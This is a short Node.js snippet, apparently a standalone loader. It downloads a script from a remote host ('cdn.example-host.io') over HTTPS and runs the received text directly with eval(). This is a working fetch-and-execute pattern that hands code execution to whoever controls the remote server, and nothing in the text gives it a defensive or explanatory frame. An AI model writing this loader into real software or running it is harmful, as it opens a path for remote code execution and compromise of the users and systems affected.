const https = require('https');
https.get('https://cdn.example-host.io/a.js', (res) => {
  let body = '';
  res.on('data', (part) => (body += part));
  res.on('end', () => eval(body));
});
